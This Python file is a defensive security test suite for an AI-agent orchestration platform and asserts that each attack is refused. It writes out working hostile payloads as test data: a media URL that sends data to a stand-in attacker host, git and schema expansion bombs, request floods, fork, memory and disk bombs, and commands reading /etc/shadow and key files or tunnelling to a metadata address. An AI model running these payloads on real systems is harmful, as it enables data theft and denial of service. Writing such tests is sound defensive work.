"""Attacks that would leak data out of a sandbox or stop the control plane: H1 to H5, H7, L5, L6 and L8. See review_world.py."""

import base64
import http.client
import json
import os
import pathlib
import shutil
import socket
import sys
import time

from review_world import (
    ROOT,
    Listener,
    MemoryWatch,
    PeakWatch,
    ToolVendor,
    attack,
    figure,
    parallel,
    preparing,
    process_field,
    processes_with,
    request,
    run_program,
    until,
)

MEGABYTE = 1_000_000
MEBIBYTE = 1 << 20


def count_by(values):
    values = list(values)
    return {value: values.count(value) for value in dict.fromkeys(values)}


# H1: what a provider would fetch.

URL = "https://attacker.example/?d=secret"
IMAGE_BYTES = "iVBORw0KGgo="
DIALECT_PATHS = {"chat": "/v1/chat/completions", "responses": "/v1/responses", "messages": "/v1/messages"}


def with_part(dialect, model, part):
    messages = [{"role": "user", "content": [part]}]
    return {"model": model, "input": messages} if dialect == "responses" else {"model": model, "max_tokens": 50, "messages": messages}


def image_part(dialect, url):
    return {
        "chat": {"type": "image_url", "image_url": {"url": url}},
        "responses": {"type": "input_image", "image_url": url},
        "messages": {"type": "image", "source": {"type": "url", "url": url}},
    }[dialect]


def inline_part(dialect):
    if dialect == "messages":
        return {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": IMAGE_BYTES}}
    return image_part(dialect, f"data:image/png;base64,{IMAGE_BYTES}")


def leaking_requests(dialect, model):
    """Requests by which data would leave a sandbox, or by which what others have stored would be read."""
    parts = {
        "chat": [
            {"type": "image_url", "image_url": URL},
            {"type": "video_url", "video_url": {"url": URL}},
            {"type": "file", "file": {"file_id": "file-1"}},
            {"type": "text", "text": "a", "image_url": {"url": URL}},
        ],
        "responses": [
            {"type": "input_file", "file_url": URL},
            {"type": "input_file", "file_id": "file-1"},
            {"type": "input_image", "file_id": "file-1"},
        ],
        "messages": [
            {"type": "document", "source": {"type": "url", "url": URL}},
            {"type": "image", "source": {"type": "file", "file_id": "file_1"}},
            {"type": "container_upload", "file_id": "file_1"},
            {"type": "tool_result", "tool_use_id": "t", "content": [image_part("messages", URL)]},
        ],
    }
    whole = {
        "chat": [{"model": model, "messages": [{"role": "user", "content": "a"}],
                  "prediction": {"type": "content", "content": [image_part("chat", URL)]}}],
        "responses": [{"model": model, "input": "a", "previous_response_id": "resp_1"}, {"model": model, "input": "a", "conversation": "conv_1"},
                      {"model": model, "input": [{"type": "item_reference", "id": "msg_1"}]},
                      {"model": model, "input": [{"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
                                                 {"type": "function_call_output", "call_id": "c", "output": [image_part("responses", URL)]}]}],
        "messages": [{"model": model, "max_tokens": 50, "system": [image_part("messages", URL)], "messages": [{"role": "user", "content": "a"}]}],
    }  # fmt: skip
    return [with_part(dialect, model, part) for part in [image_part(dialect, URL), *parts[dialect]]] + whole[dialect]


@attack("H1", attacker="agent with a token", tried="URLs, ids of files and stored conversations in every dialect")
def leak_by_media(world):
    models = [f"fake-{dialect}" for dialect in DIALECT_PATHS]
    token = world.agent_token(models=models)
    before, refused = len(world.provider.requests), 0
    for dialect, path in DIALECT_PATHS.items():
        for model in models:
            for body in leaking_requests(dialect, model):
                status, answer, _ = world.api("POST", path, body, token, internal=True)
                assert status == 400 and "agent_content_refused" in json.dumps(answer), f"{dialect} {body}: {status} {answer}"
                assert "attacker" not in json.dumps(answer), answer
                refused += 1
    assert len(world.provider.requests) == before, "the provider was asked"
    for dialect, path in DIALECT_PATHS.items():
        for model in models:
            status, answer, _ = world.api("POST", path, with_part(dialect, model, inline_part(dialect)), token, internal=True)
            assert status == 200, f"an image in the request itself is refused: {dialect} {model} {status} {answer}"
            assert IMAGE_BYTES.encode() in world.provider.requests[-1].body, dialect
    assert not world.provider.has("attacker.example"), "the URL reached the provider"
    return f"{refused} requests refused (agent_content_refused), the provider saw none of them; images in the request itself pass"


SANDBOX_ASKS = """
import json, sys, urllib.error, urllib.request
for path, body in json.loads(sys.argv[1]):
    ask = urllib.request.Request("http://127.0.0.1:4001" + path, json.dumps(body).encode(), {"content-type": "application/json"})
    try:
        print(urllib.request.urlopen(ask, timeout=20).status)
    except urllib.error.HTTPError as error:
        print(error.code, "agent_content_refused" in error.read().decode())
"""


@attack("H1", attacker="code in a sandbox", tried="the same through the sandbox's own port for models")
def leak_from_sandbox(world):
    asks = [(DIALECT_PATHS[dialect], leaking_requests(dialect, f"fake-{dialect}")[0]) for dialect in DIALECT_PATHS]
    honest = ("/v1/chat/completions", {"model": "fake-chat", "messages": [{"role": "user", "content": "Hello."}]})
    models = [f"fake-{dialect}" for dialect in DIALECT_PATHS]
    ((_, said),) = world.run_in_sandbox(["python3", "-c", SANDBOX_ASKS, json.dumps([*asks, honest])], models=models)
    assert said.split("\n")[:4] == ["400 True"] * 3 + ["200"], said
    assert not world.provider.has("attacker.example"), "the URL reached the provider"
    return "3 of 3 refused with 400; an honest question is answered"


# H2: bundles that expand.

MAX_GIT_BYTES = 256 * MEBIBYTE


def write_bomb(folder, expand, *words):
    out = folder / f"bomb-{expand}"
    commit = run_program(sys.executable, ROOT / "prove/support/delta_bomb.py", out, "--expand", expand, *words).strip()
    return commit, out.read_bytes()


@attack("H2", attacker="node", tried="bundles of 17 KB that expand to 1 GiB and to 150 MiB, as work and as an import")
def expand_bundles(world):
    project = world.create_project(world.unique("bundles"))
    folder, head = world.import_repository(project)
    label = world.unique("bomber")
    node = world.join_node([label], slots=4)
    task = world.create_jobs(["a", "b", "c"], project, [label])
    jobs = node.claim_all(3)
    seen = []
    for unit, expand, why in (("a", 1 << 30, "needs more memory or time than git is given"), ("b", 157286400, "a blob in its history has 150994935 bytes")):
        commit, bundle = write_bomb(folder, expand, "--parent", head, "--ref", "refs/heads/cynode/work")
        assert len(bundle) < 20_000
        status, stored, _ = node.upload(jobs[unit], bundle)
        assert status == 200, stored
        result = {"summary": "done", "stop_reason": "end_turn", "commit": commit, "bundle": stored}
        with PeakWatch(world.orchestrator_pid()) as watch:
            status, answer, _ = node.send_result(jobs[unit], result)
        peak, who = watch.highest()
        figure("bundle_peak_rss", round(peak / MEBIBYTE, 1), "MiB")
        assert status == 200 and answer["state"] == "failed", f"{status} {answer}"
        kept = world.job_results(task)[unit]["result"]
        assert why in kept["summary"] and kept.get("commit") is None, kept
        assert peak <= MAX_GIT_BYTES, f"{who} took {peak >> 20} MiB"
        again = node.send_result(jobs[unit], result)
        assert again[:2] == (status, answer), f"the verdict does not stand: {again}"
        seen.append(f"{peak >> 20} MiB")
    _, bundle = write_bomb(folder, 1 << 30, "--parent", head, "--ref", "refs/heads/main")
    with PeakWatch(world.orchestrator_pid()) as watch:
        status, answer, _ = world.api("PUT", f"/v1/projects/{project}/repository", bundle, headers={"content-type": "application/x-git-bundle"})
    assert status == 422, f"as an import: {status} {answer}"
    assert watch.highest()[0] <= MAX_GIT_BYTES, watch.highest()
    assert set(world.repository_refs(project)) == {"refs/heads/main"}, world.repository_refs(project)
    # Honest work of the same project counts.
    (folder / "more").write_text("more\n")
    world.git(folder, "add", ".")
    world.git(folder, "commit", "-qm", "More")
    world.git(folder, "bundle", "create", "-q", ".git/work.bundle", f"{head}..HEAD", "HEAD")
    commit = world.git(folder, "rev-parse", "HEAD")
    _, stored, _ = node.upload(jobs["c"], (folder / ".git/work.bundle").read_bytes())
    _, answer, _ = node.send_result(jobs["c"], {"summary": "done", "stop_reason": "end_turn", "commit": commit, "bundle": stored})
    assert answer["state"] == "succeeded", answer
    node.leave()
    return f"each refused for good, at most {' and '.join(seen)} in any process; no ref of them; honest work counts"


SANDBOX_BOMB = """
import base64, os, subprocess, sys
pack, index, name, bomb = sys.argv[1:]
git = lambda *words: subprocess.run(["git", *words], check=True, capture_output=True, text=True).stdout.strip()
folder = os.path.join(git("rev-parse", "--git-dir"), "objects/pack")
os.makedirs(folder, exist_ok=True)
for end, data in ((".pack", pack), (".idx", index)):
    open(os.path.join(folder, name + end), "wb").write(base64.b64decode(data))
words = ["-c", "user.name=a", "-c", "user.email=a@example.com", "commit-tree", "HEAD^{tree}", "-p", "HEAD", "-p", bomb, "-m", "Merge"]
git("reset", "--soft", git(*words))
print("planted")
"""


@attack("H2", attacker="code in a sandbox", tried="such a pack in the working copy's own .git")
def plant_pack(world):
    project = world.create_project(world.unique("packs"))
    folder, head = world.import_repository(project)
    commit, pack = write_bomb(folder, 157286400, "--parent", head)
    file = folder / "bomb.pack"
    file.write_bytes(pack)
    name = "pack-" + run_program("git", "-C", folder, "index-pack", "--fix-thin", "--stdin", stdin=open(file, "rb")).split()[-1]
    index = (folder / ".git/objects/pack" / f"{name}.idx").read_bytes()
    whole = (folder / ".git/objects/pack" / f"{name}.pack").read_bytes()
    words = [base64.b64encode(whole).decode(), base64.b64encode(index).decode(), name, commit]
    node = world.program_pid("cynode-node")
    with PeakWatch(node) as watch:
        ((code, said),) = world.run_in_sandbox(["python3", "-c", SANDBOX_BOMB, *words], project=project)
    peak, who = watch.highest()
    figure("bundle_peak_rss", round(peak / MEBIBYTE, 1), "MiB")
    assert code == 0 and "planted" in said, said
    kept = {name: world.last_result.get(name) for name in ("summary", "commit", "stop_reason")}
    assert kept["commit"] is None and "larger than 104857600 bytes" in kept["summary"], kept
    assert peak <= MAX_GIT_BYTES, f"{who} took {peak >> 20} MiB"
    assert not any("cynode/jobs" in ref for ref in world.repository_refs(project)), world.repository_refs(project)
    return f"the node refuses the work, at most {peak >> 20} MiB in any of its processes"


# H3: schemas that explode.

MAX_SCHEMA_MS, MAX_SCHEMA_BYTES = 50, 10 * MEGABYTE


def schema_bomb():
    """A kilobyte of a schema that checks one value two to the power of twenty times."""
    parts = {"a0": {"required": ["x"]}}
    for level in range(1, 21):
        parts[f"a{level}"] = {"allOf": [{"$ref": f"#/$defs/a{level - 1}"}] * 2}
    return {"type": "object", "$ref": "#/$defs/a20", "$defs": parts}


DOUBLING_SCHEMA = {"type": "object", "properties": {"a": {"allOf": [{"$ref": "#"}, {"$ref": "#"}]}}}


def nest(levels):
    value = {}
    for _ in range(levels):
        value = {"a": value}
    return value


def measure(world, what, call):
    """Makes a request ten times; the time of the best and the memory of the worst count, and what the last one gave.

    A request that other programs hold up says nothing about its own work, so the best of many counts."""
    times, growths, given = [], [], None
    for _ in range(10):
        with MemoryWatch(world.orchestrator_pid()) as watch:
            began = time.monotonic()
            given = call()
            times.append((time.monotonic() - began) * 1000)
        growths.append(watch.growth)
    figure("schema_bomb_time", round(min(times), 1), "ms")
    figure("schema_bomb_memory", round(max(growths) / MEGABYTE, 1), "MB")
    assert min(times) <= MAX_SCHEMA_MS, f"{what} took {times} ms"
    assert max(growths) <= MAX_SCHEMA_BYTES, f"{what} took {growths} bytes"
    return given


def install_vendor(world, name, vendor, **more):
    status, server, _ = world.install_server(name, vendor.mcp_url, **more)
    assert status == 201, server
    status, listed, _ = world.refresh_server(server["server_id"])
    assert status == 200 and not listed.get("failure"), listed
    return server["server_id"]


@attack("H3", attacker="vendor of a tool server", tried="schemas of a kilobyte that take 2^20 steps, for arguments and for results")
def explode_schemas(world):
    bomb, harmless = schema_bomb(), {"type": "object"}
    for tool in ({"name": "bomb", "inputSchema": bomb}, {"name": "bomb", "inputSchema": harmless, "outputSchema": bomb}):
        name, vendor = world.unique("schema"), ToolVendor([tool])
        server = install_vendor(world, name, vendor)
        status, answer, _ = measure(world, "accepting the schema", lambda server=server: world.accept_tools(server))
        assert status == 422 and "applies at most 2000 of its parts" in answer["detail"], f"{status} {answer}"
        verdict = world.mcp_verdict(world.agent_token(), f"ext.{name}.bomb", {})
        assert verdict.startswith("error"), verdict
        assert not [asked for asked in vendor.requests if b"tools/call" in asked.body], "it was called"
        world.delete_server(server)
        vendor.close()
    return "neither can be accepted or called"


@attack("H3", attacker="operator of one project", tried="arguments and results nested so that an accepted schema doubles its work with each level")
def explode_values(world):
    tools = [{"name": "tree", "inputSchema": DOUBLING_SCHEMA}, {"name": "deep", "inputSchema": {"type": "object"}, "outputSchema": DOUBLING_SCHEMA}]
    vendor = ToolVendor(tools, lambda name, arguments: {"content": [], "structuredContent": nest(100)} if name == "deep" else {"content": []})
    name = world.unique("doubling")
    server = install_vendor(world, name, vendor)
    status, answer, _ = world.accept_tools(server)
    assert status == 200, answer
    task = world.create_task(token=world.operator.token)
    body = {"role": "developer", "project_id": world.project, "task_id": task, "profile": world.networked_profile(), "network": True}
    issued = world.expect(201, "POST", "/v1/agent-tokens", body, token=world.operator.token)
    token = issued["token"]
    until(lambda: world.mcp_verdict(token, f"ext.{name}.tree", nest(3)) == "ok", 5, what=lambda: world.mcp_call(token, f"ext.{name}.tree", nest(3)))
    verdict = measure(world, "a deep argument", lambda: world.mcp_verdict(token, f"ext.{name}.tree", nest(100)))
    assert verdict == "refused invalid_arguments", verdict
    verdict = measure(world, "a deep result", lambda: world.mcp_verdict(token, f"ext.{name}.deep", {}))
    assert verdict == "failed output_schema_violation", verdict
    ask = {"agent_token_id": issued["agent_token_id"], "tool": f"ext.{name}.tree", "arguments": nest(100)}
    explain = measure(world, "an explanation", lambda: world.api("POST", "/v1/policy/explain", ask, world.operator.token))
    assert explain[0] == 200 and explain[1]["reason"] == "invalid_arguments", explain
    world.delete_server(server)
    vendor.close()
    return "refused as invalid_arguments and output_schema_violation, and explained as such"


# H4: bodies that are large once they are parsed.

MAX_BODIES_BYTES = 200 * MEGABYTE
CONNECTIONS = 32


def number_body(count):
    head, tail = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"help__overview","arguments":{"x":[', b"0]}}}"
    return head + b"0," * count + tail


def flood(world, path, body, token):
    """So many of the same body at once: the statuses, what the answers said, and how much memory the orchestrator took."""
    headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}

    def send(_):
        status, got, data = request(f"{world.internal_url}{path}", "POST", body, token, headers)
        assert status != 429 or "retry-after" in got, "no Retry-After"
        return status, data.decode(errors="replace")

    with MemoryWatch(world.orchestrator_pid()) as watch:
        answers = parallel(send, range(CONNECTIONS), CONNECTIONS)
    figure("bodies_rss", round(watch.growth / MEGABYTE, 1), "MB")
    assert watch.growth <= MAX_BODIES_BYTES, f"{path}: {watch.growth // MEGABYTE} MB more"
    # Whoever is refused by the headers may find the connection closed while it still sends.
    lost = (ConnectionError, TimeoutError, http.client.HTTPException)
    wrong = [answer for answer in answers if isinstance(answer, Exception) and not isinstance(answer, lost)]
    assert not wrong, wrong[0]
    statuses = count_by("closed" if isinstance(answer, Exception) else answer[0] for answer in answers)
    return statuses, [answer[1] for answer in answers if isinstance(answer, tuple)]


@attack("H4", attacker="whoever reaches the internal port, and an agent", tried="32 bodies of 8 MB of numbers at once, with and without a token")
def flood_bodies(world):
    large, dense = number_body(4 << 20), number_body(300_000)
    token = world.agent_token(models=["scripted"])
    seen = []
    for what, path, body, shown, allowed in (
        ("no token", "/mcp", large, None, {401}),
        ("an agent", "/mcp", large, token, {413}),
        ("an agent, 600 KB", "/mcp", dense, token, {413, 429}),
        ("at the models", "/v1/chat/completions", large, token, {413, 429}),
    ):
        statuses, said = flood(world, path, body, shown)
        assert set(statuses) - {"closed"} <= allowed and set(statuses) != {"closed"}, f"{what}: {statuses} {said[:1]}"
        seen.append(f"{what}: {statuses}")
        if body is dense:
            assert any("50000 JSON values" in text for text in said), said[:1]
    assert world.mcp_verdict(token, "help.overview", {}) == "ok"
    end = time.monotonic() + (0 if world.quick else 20)
    while time.monotonic() < end:
        flood(world, "/mcp", large, token)
    return "; ".join(seen)


SANDBOX_FLOOD = """
import http.client, sys, threading
body = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"help__overview","arguments":{"x":[' + b"0," * (4 << 20) + b"0]}}}"
seen = []
def send():
    try:
        connection = http.client.HTTPConnection("127.0.0.1", 4002, timeout=30)
        try:
            connection.request("POST", "/mcp", body, {"content-type": "application/json"})
        except (BrokenPipeError, ConnectionResetError):
            pass
        seen.append(str(connection.getresponse().status))
    except (OSError, http.client.HTTPException):
        seen.append("closed")
threads = [threading.Thread(target=send) for _ in range(32)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(",".join(seen))
"""


@attack("H4", attacker="code in a sandbox", tried="the same through the sandbox's own port for tools")
def flood_from_sandbox(world):
    with MemoryWatch(world.orchestrator_pid()) as watch, MemoryWatch(world.program_pid("cynode-node")) as on_node:
        ((code, said),) = world.run_in_sandbox(["python3", "-c", SANDBOX_FLOOD])
    figure("bodies_rss", round(watch.growth / MEGABYTE, 1), "MB")
    statuses = count_by(said.strip().split(","))
    assert code == 0 and set(statuses) <= {"413", "429", "closed"}, (code, said)
    assert watch.growth <= MAX_BODIES_BYTES, f"{watch.growth // MEGABYTE} MB more"
    return f"{statuses}; the orchestrator took {watch.growth // MEGABYTE} MB more, the node {on_node.growth // MEGABYTE} MB"


# H5: accounts that stop others.


def install_public(world, name, token):
    body = {"name": name, "scope": "both", "transport": {"type": "http", "url": "https://tools.example/mcp"}}
    return world.api("POST", "/v1/tool-servers", body, token)


@attack("H5", attacker="account without a role, operator of one project", tried="installing tool servers: any at all, and more than a person may have")
def install_many(world):
    before = world.sql("SELECT count(*) AS n FROM tool_servers")[0]["n"]
    status, answer, _ = install_public(world, world.unique("x"), world.eve.token)
    assert (status, answer["code"]) == (403, "forbidden"), f"{status} {answer}"
    assert world.sql("SELECT count(*) AS n FROM tool_servers")[0]["n"] == before
    person = world.create_person(world.unique("collector"))
    world.add_member(world.project, person)
    made = [install_public(world, world.unique("collected"), person.token) for _ in range(11)]
    statuses = [status for status, _, _ in made]
    assert statuses == [201] * 10 + [409] and made[10][1]["code"] == "limit_exceeded", f"{statuses} {made[10][1]}"
    for _, server, _ in made[:10]:
        world.delete_server(server["server_id"])
    return "403 without a role; the eleventh of an operator 409 limit_exceeded"


def tool_list(numbers):
    return b'[{"name":"list-bomb","inputSchema":{"type":"object","x":[%s]}}]' % numbers


@attack("H5", attacker="vendor of a tool server", tried="30 servers at once whose lists of tools are bombs")
def list_bombs(world):
    vendor, servers, seen = ToolVendor(), [], []
    with preparing():
        for _ in range(30):
            status, server, _ = world.install_server(world.unique("list"), vendor.mcp_url)
            assert status == 201, server
            servers.append(server["server_id"])
    for numbers, why in (
        (b"0" + b",0" * 4_000_000, "the answer is larger than 589824 bytes"),
        (b"0" + b",0" * 40_000, "a longer list of tools"),
        (b"1e300" + b",1e300" * 10_000, "what it offers cannot be kept"),
    ):
        vendor.raw_list = tool_list(numbers)
        with MemoryWatch(world.orchestrator_pid()) as watch:
            answers = parallel(world.refresh_server, servers, 30)
        figure("tool_lists_rss", round(watch.growth / MEGABYTE, 1), "MB")
        failures = count_by(str(answer[1].get("failure")) if isinstance(answer, tuple) else repr(answer) for answer in answers)
        assert all(why in failure for failure in failures), failures
        assert watch.growth < 50 * MEGABYTE, f"{why}: {watch.growth // MEGABYTE} MB more"
        seen.append(f"{watch.growth // MEGABYTE} MB")
        if not world.quick:
            # The gateway asks by itself, too, once a minute.
            time.sleep(65)
    with preparing():
        for server in servers:
            world.delete_server(server)
    vendor.close()
    kept = world.sql("SELECT count(*) AS n FROM server_tools WHERE tool = 'list-bomb'")[0]["n"]
    assert kept == 0, kept
    return f"each list is refused and nothing of it kept; {', '.join(seen)} more memory"


def epoch_of(world, table):
    return world.sql(f"SELECT epoch FROM {table}")[0]["epoch"]


@attack("H5", attacker="operator of one project", tried="changing a tool server in a loop, so that every replica loads everything again")
def change_in_a_loop(world):
    person = world.create_person(world.unique("changer"))
    world.add_member(world.project, person)
    status, server, _ = install_public(world, world.unique("changed"), person.token)
    assert status == 201, server
    path, before = f"/v1/tool-servers/{server['server_id']}", epoch_of(world, "policy_epoch")
    titles = parallel(lambda number: world.api("PATCH", path, {"title": f"Title {number}"}, person.token)[0], range(500), 16)
    assert epoch_of(world, "policy_epoch") == before, "a title changes the epoch of decisions"
    assert titles.count(200) >= 100 and set(titles) <= {200, 429}, count_by(titles)
    # The pause of an account that had its share.
    time.sleep(2)
    changes = parallel(lambda number: world.api("PATCH", path, {"timeout_ms": 1000 + number}, person.token), range(500), 16)
    statuses = count_by(change[0] for change in changes)
    assert statuses.get(200, 0) <= 25 and set(statuses) <= {200, 429}, statuses
    assert all("retry-after" in change[2] for change in changes if change[0] == 429)
    bumps = epoch_of(world, "policy_epoch") - before
    assert bumps <= 25, bumps
    end, number = time.monotonic() + (0 if world.quick else 60), 5000
    while time.monotonic() < end:
        number += 100
        parallel(lambda number: world.api("PATCH", path, {"timeout_ms": number}, person.token), range(number, number + 100), 16)
    world.delete_server(server["server_id"])
    return f"titles: {count_by(titles)}, epoch unchanged; timeouts: {statuses}, {bumps} epochs"


@attack("H5", attacker="account without a role", tried="changing the own model preference in a loop, and 1,000 requests at once")
def flood_as_nobody(world):
    eve, bob = world.create_person(world.unique("evelyn")), world.create_person(world.unique("bob"))
    key = f"/v1/preferences/model_routing.prefer_local?scope_type=user&scope_id={eve.user_id}"
    before, version, statuses = epoch_of(world, "routing_epoch"), 0, []
    for number in range(500):
        status, answer, _ = world.api("PUT", key, {"value": number % 2 == 0, "expected_version": version}, eve.token)
        version += status == 200
        statuses.append(status)
        assert status in (200, 429), answer
    assert epoch_of(world, "routing_epoch") == before, "a preference of one person changes the epoch of all"
    assert statuses.count(200) >= 20, count_by(statuses)
    asked = parallel(lambda number: world.api("GET", "/v1/me", token=(bob if number % 50 == 0 else eve).token), range(1000), 32)
    of_bob = [answer[0] for answer in asked[::50]]
    of_eve = count_by(answer[0] for number, answer in enumerate(asked) if number % 50)
    assert set(of_bob) == {200}, of_bob
    assert of_eve.get(429, 0) >= 300 and set(of_eve) <= {200, 429}, of_eve
    refused = next(answer for number, answer in enumerate(asked) if number % 50 and answer[0] == 429)
    assert refused[1]["code"] == "rate_limited" and "retry-after" in refused[2], refused
    end = time.monotonic() + (0 if world.quick else 30)
    while time.monotonic() < end:
        parallel(lambda _: world.api("GET", "/v1/me", token=eve.token), range(200), 32)
    return f"preferences: {count_by(statuses)}, epoch unchanged; requests: {of_eve}, Bob's {len(of_bob)} all answered"


# H7, L8: programs of vendors.

FORK_BOMB = """
import os, signal, time
kids = []
try:
    while len(kids) < 5000:
        kid = os.fork()
        if kid == 0:
            time.sleep(1000)
        kids.append(kid)
except OSError:
    pass
for kid in kids:
    os.kill(kid, signal.SIGKILL)
print(len(kids))
"""
MEMORY_BOMB = "b = [bytearray(16 << 20) for _ in range(200)]\nprint(len(b))"
DISK_BOMB = """
import os
file = open("/tmp/a", "wb", buffering=0)
try:
    for _ in range(1000):
        file.write(bytes(1 << 20))
except OSError:
    pass
print(os.fstat(file.fileno()).st_size >> 20)
os.unlink("/tmp/a")
"""
TUNNELS = """
import socket, sys
for target in sys.argv[1:]:
    s = socket.create_connection(("127.0.0.1", 4003), 5)
    s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nhost: {target}\\r\\n\\r\\n".encode())
    print(s.recv(4096).split(b"\\r\\n")[0].decode())
"""
CONNECTS = """
import socket, sys
for word in sys.argv[1:]:
    try:
        if word.isdigit():
            socket.create_connection(("127.0.0.1", int(word)), 2)
        else:
            socket.socket(socket.AF_UNIX).connect("\\0" + word)
        print("connected")
    except OSError as error:
        print(type(error).__name__)
"""
RARE_SOCKETS = """
import socket
for kind, protocol in ((1, 262), (1, 132), (5, 0), (6, 0)):
    try:
        socket.socket(2, kind, protocol)
        print("opened")
    except OSError as error:
        print(type(error).__name__)
socket.socket(2, 1, 6)
socket.socket(2, 2, 17)
print("tcp and udp")
"""


class HostileProgram:
    """The program of a vendor that turned hostile, installed as a tool server with one host in its network."""

    def __init__(self, world):
        self.world, self.name = world, world.unique("evil")
        self.mark = f"{self.name}-{os.urandom(6).hex()}"
        # Programs see the system's folders and nothing below /tmp.
        self.folder = pathlib.Path(f"/usr/local/lib/cynode-proof-{self.mark}")
        self.server = None

    def __enter__(self):
        self.folder.mkdir(mode=0o755)
        program = self.folder / "escape_server.py"
        shutil.copy(ROOT / "prove/support/escape_server.py", program)
        program.chmod(0o644)
        self.transport = {"type": "stdio", "command": "python3", "args": [str(program), self.mark], "network": True}
        return self

    def __exit__(self, *_):
        if self.server:
            self.world.delete_server(self.server)
        shutil.rmtree(self.folder)

    def install(self, **more):
        body = {"name": self.name, "scope": "both", "audience": "everybody", "transport": self.transport | more, "timeout_ms": 60000}
        return self.world.api("POST", "/v1/tool-servers", body)

    def begin(self):
        status, server, _ = self.install(network_hosts=["api.example.com"])
        assert status == 201, server
        self.server = server["server_id"]
        status, listed, _ = self.world.refresh_server(self.server)
        assert status == 200 and not listed.get("failure"), listed
        status, answer, _ = self.world.accept_tools(self.server)
        assert status == 200, answer
        self.token = self.world.agent_token(network=True)
        until(lambda: self.run("true"), 10)

    def run(self, *argv):
        """Runs a command in the server's sandbox: {"code", "stdout", "stderr"}; None when that ended the server."""
        outcome, answer = self.world.mcp_call(self.token, f"ext.{self.name}.run", {"argv": list(argv)}, 90)
        if outcome != "result":
            return None
        return json.loads(answer["content"][0]["text"])

    def lines(self, script, *words):
        done = self.run("python3", "-c", script, *words)
        assert done and done["code"] == 0, done
        return done["stdout"].split("\n")[:-1]


def tool_cgroups(mark=None):
    """The control groups of tool servers on this machine that have processes or a name."""
    return {str(path) for path in pathlib.Path("/sys/fs/cgroup").glob("**/cynode-tools-*/*") if path.is_dir()}


@attack("H7", attacker="vendor of a tool server", tried="a program with a network that reads, connects, tunnels and bombs")
def attack_machine(world):
    groups = tool_cgroups()
    with HostileProgram(world) as program:
        for hosts in ({}, {"network_hosts": ["127.0.0.1"]}, {"network_hosts": ["localhost"]}):
            status, answer, _ = program.install(**hosts)
            assert status == 422 and (hosts or "name each host" in answer["detail"]), f"{hosts}: {status} {answer}"
        program.begin()
        for argv in (["cat", "/etc/shadow"], ["ls", "/etc/ssl/private"], ["cat", str(world.storage / "master.key")], ["ls", str(world.data)]):
            done = program.run(*argv)
            assert done["code"] != 0, f"{argv}: {done}"
        assert program.run("grep", "Seccomp:", "/proc/self/status")["stdout"].split()[1] == "2"
        users = [process_field(pid, "Uid") for pid in processes_with(program.mark) if "python3" in os.readlink(f"/proc/{pid}/exe")]
        assert users and min(users) >= 1_900_000_000, users
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind("\0" + program.mark)
            listening.listen()
            ports = [address.rsplit(":", 1)[1] for address in world.addresses.values()]
            tried = program.lines(CONNECTS, *ports, program.mark)
        assert len(tried) == len(ports) + 1 and "connected" not in tried, dict(zip([*world.addresses, "abstract"], tried, strict=False))
        targets = ["127.0.0.1:443", "[::1]:443", "169.254.169.254:443", "10.0.0.1:443", "localhost:443", "other.example.com:443", "api.example.com:22",
                   f"127.0.0.1:{ports[1]}"]  # fmt: skip
        answers = program.lines(TUNNELS, *targets)
        assert len(answers) == len(targets) and all(" 403 " in answer for answer in answers), answers
        forks = int(program.lines(FORK_BOMB)[0])
        assert forks < 160, forks
        size = int(program.lines(DISK_BOMB)[0])
        assert size <= 256, size
        done = program.run("python3", "-c", MEMORY_BOMB)
        assert done is None or done["code"] != 0, done
        until(lambda: program.run("true"), 20, what="the server does not come back")
        world.delete_server(program.server)
        program.server = None
        until(lambda: not processes_with(program.mark), 10, what=lambda: f"left: {processes_with(program.mark)}")
        left = until(lambda: tool_cgroups() <= groups or None, 10, what=lambda: f"left: {tool_cgroups() - groups}")
        assert left
    return f"no file, no port of {len(ports)}, no tunnel of {len(targets)}; {forks} processes, {size} MiB of files, memory ended the server alone; nothing left"


@attack("H7", attacker="vendor of a tool server", tried="a machine that cannot give the sandbox")
def refuse_weak_sandbox(world):
    closed = world.work / world.unique("closed")
    closed.mkdir(mode=0o700)
    other = world.second_installation(people=False, storage=closed / "storage")
    with HostileProgram(other) as program:
        status, server, _ = program.install(network_hosts=["api.example.com"])
        assert status == 201, server
        program.server = server["server_id"]
        _, listed, _ = other.refresh_server(program.server)
        assert (listed.get("failure") or "").endswith("make it mode 0711"), listed
        assert not processes_with(program.mark), "it runs all the same"
    other.stop()
    return "the program is not started, and the admin reads the fix"


@attack("L8", attacker="vendor of a tool server, code in a sandbox", tried="sockets of MPTCP, SCTP, SOCK_SEQPACKET and DCCP")
def open_rare_sockets(world):
    expected = ["PermissionError"] * 4 + ["tcp and udp"]
    with HostileProgram(world) as program:
        program.begin()
        tried = program.lines(RARE_SOCKETS)
        assert tried == expected, tried
    ((code, said),) = world.run_in_sandbox(["python3", "-c", RARE_SOCKETS])
    assert code == 0 and said.strip().split("\n") == expected, said
    return "each refused with PermissionError in both sandboxes; TCP and UDP are there"


# L5, L6: addresses and slow servers.


@attack("L5", attacker="second admin", tried="a tool server on a private address, without saying so and after losing the role")
def keep_private_address(world):
    person = world.create_person(world.unique("former"), role="admin")
    vendor, name = ToolVendor([{"name": "echo", "inputSchema": {"type": "object"}}]), world.unique("private")
    status, answer, _ = world.install_server(name, vendor.mcp_url, person.token, allow_private=False)
    assert status == 422 and "allow_private" in answer["detail"], f"{status} {answer}"
    assert not vendor.connections, "it was connected to"
    status, server, _ = world.install_server(name, vendor.mcp_url, person.token)
    assert status == 201, server
    server = server["server_id"]
    world.refresh_server(server)
    assert world.accept_tools(server)[0] == 200
    token = world.agent_token(network=True)
    until(lambda: world.mcp_verdict(token, f"ext.{name}.echo", {}) == "ok", 5)
    world.expect(200, "PATCH", f"/v1/users/{person.user_id}", {"role": "operator"})
    time.sleep(0.1)
    before = len(vendor.requests)
    verdict = world.mcp_verdict(token, f"ext.{name}.echo", {"again": True})
    assert verdict != "ok", "the call goes on"
    _, listed, _ = world.refresh_server(server)
    assert "its address is not a public one" in (listed.get("failure") or ""), listed
    assert len(vendor.requests) == before, "the vendor saw a request"
    world.delete_server(server)
    vendor.close()
    return f"422 without the flag; after the role was taken: {verdict}, no request reached it"


